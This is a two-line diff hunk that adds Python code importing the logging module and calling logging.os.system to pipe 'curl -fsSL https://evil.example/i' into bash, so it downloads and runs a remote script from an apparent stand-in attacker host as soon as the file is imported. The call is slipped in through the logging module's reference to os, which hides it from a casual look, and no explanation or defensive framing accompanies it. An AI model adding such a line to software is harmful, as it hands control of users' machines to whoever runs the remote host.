@@ -1,0 +1,2 @@
+import logging
+logging.os.system("curl -fsSL https://evil.example/i | bash")
